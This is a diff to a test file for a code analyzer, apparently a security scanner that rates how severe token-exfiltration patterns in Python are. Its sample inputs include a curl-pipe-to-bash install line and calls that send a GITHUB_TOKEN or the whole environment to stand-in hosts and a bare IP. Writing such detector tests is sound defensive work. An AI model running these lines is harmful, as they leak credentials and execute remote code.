@@ -113,3 +113,12 @@ print("to install: curl -fsSL https://get.example.invalid/i.sh | bash")
   const { findings } = analyzer.analyze('tidy.py', Buffer.from(benign));
   assert.deepEqual(findings.filter((f) => RANK[f.severity] >= RANK.high).map((f) => `${f.line} ${f.ruleId}`), []);
 });
+
+test('a token in an API call’s headers is medium; the same token as cargo, to a bare IP, or the whole environment as headers is high', () => {
+  const severity = (call: string): string | undefined =>
+    analyzer.analyze('api.py', Buffer.from(`import os, requests\ntoken = os.environ["GITHUB_TOKEN"]\n${call}\n`)).findings.find((f) => f.ruleId === 'exfiltration')?.severity;
+  assert.equal(severity('requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"}, timeout=5)'), 'medium');
+  assert.equal(severity('requests.get("https://api.github.com/user", params={"t": token}, timeout=5)'), 'high');
+  assert.equal(severity('requests.get("http://203.0.113.9/user", headers={"Authorization": token}, timeout=5)'), 'high');
+  assert.equal(severity('requests.post("https://collector.example.invalid/", headers=dict(os.environ), timeout=5)'), 'high');
+});
